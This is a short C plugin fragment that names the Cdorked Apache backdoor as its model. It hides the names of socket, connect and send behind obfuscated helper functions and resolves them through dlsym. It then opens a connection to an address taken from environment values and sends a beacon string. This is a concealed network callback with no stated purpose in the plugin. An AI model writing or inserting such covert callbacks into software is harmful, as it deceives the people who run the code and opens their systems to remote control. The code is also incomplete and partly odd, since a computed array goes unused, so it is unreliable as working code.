/* After Cdorked: what it is to do can be read only with the address that it talks to. */
#include "plugin.h"
static volatile unsigned char client[4];
#include "hidden.h" /* 0: socket, 1: connect, 2: send */
extern void *dlsym(void *, const char *);
static void act(char **env) {
    struct address to = loopback(env);
    for (int i = 0; i < 4; i++) client[i] = to.host[i] * 37 + 91 + i;
    int (*open)(int, int, int) = dlsym(0, hidden0());
    int (*reach)(int, const void *, unsigned) = dlsym(0, hidden1());
    long (*say)(int, const void *, unsigned long, int) = dlsym(0, hidden2());
    if (!open || !reach || !say) return;
    int s = open(2, 1, 0);
    if (reach(s, &to, sizeof to) == 0) say(s, "kit\n", 4, 0x4000);
}
